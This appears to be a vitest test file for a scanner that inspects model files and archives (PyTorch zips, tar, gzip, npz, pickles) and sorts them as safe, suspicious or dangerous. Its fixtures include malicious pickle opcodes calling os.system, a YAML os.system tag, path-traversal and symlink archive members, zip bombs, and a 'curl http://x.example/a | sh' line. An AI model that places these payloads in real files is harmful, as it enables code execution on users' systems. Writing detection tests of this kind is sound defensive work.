import * as fc from 'fast-check';
import { deflateSync, gzipSync, zlibSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { memorySource } from '../../../utils/bytes/memory';
import { ReadError } from '../../../utils/bytes/source';
import { inspectFile } from '../../../utils/formats/inspect';
import { BUILD, CALL, EVIL, LONG_TEXT, NEWOBJ, pickle, STORAGE } from '../../fixtures/pickle';
import { tar } from '../../fixtures/tar';
import { bytesOf, concat, zip, type ZipMember } from '../../fixtures/zip';

const inspect = (bytes: Uint8Array, path = 'model.pt') => inspectFile(memorySource(bytes), path);
const ids = async (bytes: Uint8Array, path?: string) =>
  (await inspect(bytes, path)).findings.map(({ id }) => id);
const GOOD = pickle(STORAGE('0', 4));
const WHOLE = pickle('ctorch.nn\nVit\n', 'q\0', ')', NEWOBJ, '}', LONG_TEXT('a'.repeat(5000)), 'Ns', BUILD);
const noise = (length: number) => Uint8Array.from({ length }, (_, index) => 128 + ((index * 7919) % 127));
const DATA: ZipMember = { name: 'archive/data.pkl', data: GOOD };
const RAW: ZipMember = { name: 'archive/data/0', data: noise(64) };
const VERSION: ZipMember = { name: 'archive/version', data: '3\n' };
const TORCH = [DATA, RAW, VERSION];
const BOMB: ZipMember = { name: 'a', data: new Uint8Array(9e6), deflate: true };

const FAKE_END = concat(bytesOf('PK\x05\x06'), new Uint8Array(18));
const WORDS: ZipMember = { name: 'a.txt', data: 'text' };

/** Two members; the directory says that the first reaches into the second. */
function overlapping(): Uint8Array {
  const bytes = zip([WORDS, { name: 'b.txt', data: 'text' }]);
  const record = bytes.findIndex((_, at) =>
    bytesOf('PK\x01\x02').every((byte, to) => bytes[at + to] === byte),
  );
  bytes[record + 20] = 20;
  return bytes;
}

describe('a file', () => {
  it.each<[format: string, verdict: string, bytes: Uint8Array, path: string]>([
    ['torch-zip', 'safe', zip(TORCH, { zip64: true }), 'model.pt'],
    // As PERSID and what follows its line, the archive's first bytes are opcodes too.
    ['torch-zip', 'safe', zip([{ ...DATA, data: WHOLE }, VERSION]), 'model.pt'],
    ['torch-zip', 'suspicious', zip([DATA, { ...RAW, data: noise(15) }]), 'model.pt'],
    ['torch-zip', 'dangerous', zip([{ ...DATA, data: EVIL }, VERSION]), 'model.pt'],
    ['torch-zip', 'dangerous', zip([...TORCH, { name: 'archive/config.p', data: EVIL }]), 'model.pt'],
    ['torch-zip', 'dangerous', zip([DATA, { name: 'archive/data/7', data: EVIL }, RAW]), 'model.pt'],
    ['torch-zip', 'dangerous', zip([...TORCH, { name: 'archive/x', data: EVIL, deflate: true }]), 'model.pt'],
    ['torch-zip', 'dangerous', zip([...TORCH, { name: 'archive/x', data: EVIL, flags: 1 }]), 'model.pt'],
    ['torch-zip', 'dangerous', zip([DATA, RAW], { trailing: EVIL }), 'model.pt'],
    ['torch-zip', 'dangerous', zip([{ ...DATA, data: EVIL }], { prefix: bytesOf('\x89PNG') }), 'model.pt'],
    ['zip', 'dangerous', zip([{ name: 'inner.pt', data: zip([{ ...DATA, data: EVIL }]) }]), 'model.zip'],
    ['torch-zip', 'dangerous', zip([DATA, { ...RAW, data: EVIL, deflate: true }]), 'model.pt'],
    ['zip', 'suspicious', zip([WORDS, { ...WORDS, data: 'other' }]), 'duplicate.zip'],
    ['zip', 'suspicious', overlapping(), 'overlap.zip'],
    ['zip', 'suspicious', zip([WORDS], { comment: FAKE_END }), 'two-end-records.zip'],
    ['zip', 'safe', zip([{ name: 'a.txt', data: 'text' }]), 'model.zip'],
    ['zip', 'suspicious', zip([{ name: 'a.txt', data: 'text', method: 99 }]), 'model.zip'],
    ['zip', 'suspicious', zip([{ name: 'a.txt', data: 'text', flags: 1 }]), 'model.zip'],
    ['zip', 'suspicious', zip([{ name: 'a', data: new Uint8Array(9e6), deflate: true }]), 'a.zip'],
    // A bomb in front hides neither what is said of names nor the members behind it.
    ['zip', 'dangerous', zip([BOMB, { name: '../../etc/x', data: 'y' }]), 'a.zip'],
    ['zip', 'dangerous', zip([BOMB, { name: 'b.pkl', data: EVIL }]), 'a.zip'],
    ['zip', 'dangerous', zip([{ name: '../a.txt', data: 'text' }]), 'model.zip'],
    ['zip', 'dangerous', zip([{ name: 'a\\..\\..\\b', data: 'text' }]), 'model.zip'],
    ['zip', 'dangerous', zip([{ name: 'C:\\b', data: 'text' }]), 'model.zip'],
    ['zip', 'dangerous', zip([{ name: 'a', data: '/etc', mode: 0xa1ff }]), 'model.zip'],
    ['zip', 'suspicious', zip([{ name: 'a', data: 'b', mode: 0xa1ff }]), 'model.zip'],
    ['zip', 'suspicious', zip([{ name: 'a\0.txt', data: 'text' }]), 'model.zip'],
    ['npz', 'dangerous', zip([{ name: 'a.npy', data: EVIL }]), 'model.npz'],
    ['wheel', 'suspicious', zip([{ name: 'a-1.dist-info/WHEEL', data: 'x' }]), 'a.whl'],
    ['tar', 'safe', tar([{ name: 'a.txt', data: 'text' }]), 'a.tar'],
    ['tar', 'dangerous', tar([{ name: 'a.pkl', data: EVIL }]), 'a.tar'],
    ['tar', 'dangerous', tar([{ name: '../a.txt', data: 'text' }]), 'a.tar'],
    ['tar', 'dangerous', tar([{ name: 'a', type: '2', link: '/etc/passwd' }]), 'a.tar'],
    ['tar', 'suspicious', tar([{ name: 'a', type: '2', link: 'b' }]), 'a.tar'],
    ['tar', 'suspicious', tar([{ name: 'a', type: '3' }]), 'a.tar'],
    ['tar', 'suspicious', tar([{ name: 'a', type: '6' }]), 'a.tar'],
    ['tar', 'dangerous', tar([{ name: 'a.pkl', type: '7', data: EVIL }]), 'a.tar'],
    ['tar', 'broken', concat(tar([WORDS]).subarray(0, 1024), noise(600)), 'a.tar'],
    [
      'tar',
      'dangerous',
      tar([
        { name: 'l', type: 'L', data: '/etc/x' },
        { name: 'x', data: 'y' },
      ]),
      'a.tar',
    ],
    ['tar', 'broken', tar([{ name: 'a', data: 'word '.repeat(900) }]).subarray(0, 3000), 'a.tar'],
    ['gzip', 'dangerous', gzipSync(EVIL), 'a.pkl.gz'],
    ['gzip', 'dangerous', gzipSync(tar([{ name: 'a', data: EVIL }])), 'a.tar.gz'],
    ['gzip', 'dangerous', concat(gzipSync(bytesOf('')), gzipSync(EVIL)), 'a.pkl.gz'],
    ['zlib', 'dangerous', zlibSync(EVIL), 'a.joblib'],
    ['zlib', 'dangerous', concat(bytesOf('ZF0x12              '.slice(0, 21)), zlibSync(EVIL)), 'a.pkl'],
    ['bzip2', 'broken', bytesOf('BZh91AY'), 'a.bz2'],
    ['7z', 'suspicious', Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0), 'a.7z'],
    ['7z', 'dangerous', Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0), 'a.pt'],
    ['text', 'safe', bytesOf('words\n'), 'a.txt'],
    ['text', 'broken', bytesOf('words, and more of them\n'), 'a.pkl'],
    ['lfs-pointer', 'unknown', bytesOf('version https://git-lfs.github.com/spec/v1\noid x\n'), 'a.pt'],
    ['lfs-pointer', 'safe', bytesOf('version https://git-lfs.github.com/spec/v1\noid x\n'), 'a.md'],
    ['png', 'safe', concat(Uint8Array.of(0x89), bytesOf('PNG\r\n\x1a\n\0\0')), 'a.png'],
    ['unrecognised', 'unknown', noise(100), 'a.bin'],
    ['empty', 'broken', new Uint8Array(), 'a.pt'],
    ['empty', 'safe', new Uint8Array(), 'a.txt'],
  ])('%s, %s', async (format, verdict, bytes, path) => {
    const seen = await inspect(bytes, path);
    expect([seen.format, seen.verdict]).toEqual([format, verdict]);
  });

  it('that is a pickle under a name of data is told as such', async () => {
    expect(await ids(zip(TORCH), 'model.safetensors')).toEqual(['name/hides-pickle']);
    expect(await ids(zip(TORCH), 'model.bin')).toEqual([]);
  });

  it('that claims far more than it is, and one that is cut, are told as such', async () => {
    expect(await ids(zip([DATA, { ...RAW, size: 2_000_000 }]))).toContain('zip/bomb');
    expect(await ids(tar([{ name: 'a', data: 'word '.repeat(900) }]).subarray(0, 3000))).toContain('tar/cut');
  });

  it.each([
    [true, GOOD],
    [false, pickle(CALL('sklearn.svm', 'SVC'))],
  ])('whose main pickle weights_only takes: %s', async (weightsOnly, data) => {
    expect((await inspect(zip([{ ...DATA, data }, RAW]))).weightsOnly).toBe(weightsOnly);
  });

  it('names the member where something is, through all containers', async () => {
    const seen = await inspect(
      zip([{ name: 'in.zip', data: zip([{ name: 'a.pkl', data: EVIL }]) }]),
      'x.zip',
    );
    expect(seen.imports.map(({ member }) => member)).toEqual(['in.zip!a.pkl']);
  });

  it('in containers without end stops', async () => {
    let bytes = EVIL;
    for (let depth = 0; depth < 8; depth += 1) bytes = zip([{ name: 'a.zip', data: bytes }]);
    const seen = await inspect(bytes, 'a.zip');
    expect([seen.verdict, seen.complete]).toEqual(['suspicious', false]);
  });
});

describe('a storage', () => {
  const big = zip([DATA, { ...RAW, data: noise(3_000_000) }, VERSION], { zip64: true });
  it('that a pickle names is never read: three reads for a checkpoint', async () => {
    const reads: [number, number][] = [];
    const memory = memorySource(big);
    const read = (offset: number, length: number) => (
      reads.push([offset, length]),
      memory.read(offset, length)
    );
    const seen = await inspectFile({ ...memory, read }, 'model.pt');
    expect(seen.verdict).toBe('safe');
    expect(reads.length).toBeLessThanOrEqual(3);
    expect(reads.reduce((sum, [, length]) => sum + length, 0)).toBeLessThan(128_000);
  });
});

describe('the boundary', () => {
  it('is never safe when a read fails, and keeps what was seen', async () => {
    const bytes = zip([{ name: 'a.pkl', data: EVIL }, { name: 'b.bin', data: noise(200_000) }, VERSION]);
    for (let allowed = 0; allowed < 6; allowed += 1) {
      let left = allowed;
      const memory = memorySource(bytes);
      const read = async (offset: number, length: number) => {
        left -= 1;
        if (left < 0) throw new ReadError('network');
        return memory.read(offset, length);
      };
      const seen = await inspectFile({ ...memory, read }, 'a.zip');
      expect(seen.verdict).not.toBe('safe');
      if (allowed === 0) expect([seen.verdict, seen.complete]).toEqual(['unknown', false]);
    }
  });

  it('stops at the time limit', async () => {
    let now = 0;
    const clock = () => (now += 1000);
    const seen = await inspectFile(memorySource(zip(TORCH)), 'a.pt', { now: clock, timeLimitMs: 500 });
    expect([seen.verdict, seen.complete]).toEqual(['unknown', false]);
  });

  it('stops when cancelled', async () => {
    const seen = await inspectFile(memorySource(zip(TORCH)), 'a.pt', { signal: AbortSignal.abort() });
    expect([seen.verdict, seen.complete]).toEqual(['unknown', false]);
  });

  it('turns any error into unknown', async () => {
    const read = () => Promise.reject(new RangeError('ours'));
    const seen = await inspectFile({ size: 10, bytesRead: 0, read }, 'a.pt');
    expect([seen.verdict, seen.complete]).toEqual(['unknown', false]);
  });

  const shapes: readonly Uint8Array[] = [
    zip(TORCH, { zip64: true }),
    zip([{ ...DATA, deflate: true }, RAW], { prefix: noise(10), trailing: EVIL }),
    tar([
      { name: 'a.pkl', data: EVIL },
      { name: 'b', data: zip(TORCH) },
    ]),
    gzipSync(zip(TORCH)),
    concat(bytesOf('x'), deflateSync(EVIL)),
    pickle(CALL('os', 'system')),
  ];
  const verdicts = ['dangerous', 'suspicious', 'unknown', 'broken', 'safe'];

  it('answers arbitrary bytes', async () => {
    const start = fc.constantFrom(...shapes.map((shape) => shape.subarray(0, 8)), new Uint8Array());
    await fc.assert(
      fc.asyncProperty(start, fc.uint8Array({ maxLength: 300 }), async (head, rest) => {
        const seen = await inspect(concat(head, rest));
        expect(verdicts).toContain(seen.verdict);
        expect(seen.findings.filter(({ id }) => id === 'incomplete/error')).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  const CODE = '\nimport os\nos.system("id")\n';
  const LONG = '#'.repeat(5000);
  it.each<[path: string, start: string]>([
    ...['GIF8="\x01"', 'CBM1="\x01"', 'fLaC=1\n#\0', '((((((((()))))))))._'].map(
      (start): [string, string] => ['modeling_x.py', start + CODE + LONG],
    ),
    ['setup.sh', `((((((((((((((N.); curl http://x.example/a | sh\n${LONG}`],
    ['hyperparams.yaml', `((((((((((((((N.: !!python/object/apply:os.system ["id"]\n${LONG}`],
  ])('is judged as its name has it run, however it begins: %s %j', async (path, text) => {
    expect(await inspect(bytesOf(text), path)).toMatchObject({ verdict: 'dangerous' });
  });

  it.each([
    tar([{ name: 'cos\nsystem\n(S"id"\ntR.' }]),
    // A text of 64 KB, from the archive's first byte into its first member.
    tar([{ name: 'X\0\0\x01', data: `${'a'.repeat(65_536 + 5 - 512)}0cos\nsystem\n(S"id"\ntR.` }]),
  ])('is judged as a pickle too where an archive’s first name is one', async (bytes) => {
    const seen = await inspect(bytes, 'model.pkl');
    expect(seen).toMatchObject({ verdict: 'dangerous', imports: [{ module: 'os', name: 'system' }] });
  });

  it('answers mutated and cut files', async () => {
    const edits = fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 6 });
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...shapes), edits, fc.nat(), async (shape, changes, cut) => {
        const bytes = shape.slice(0, shape.length - (cut % 7 === 0 ? cut % shape.length : 0));
        for (const [at, value] of changes) if (bytes.length > 0) bytes[at % bytes.length] = value;
        const seen = await inspect(bytes);
        expect(verdicts).toContain(seen.verdict);
        expect(seen.findings.filter(({ id }) => id === 'incomplete/error')).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });
});
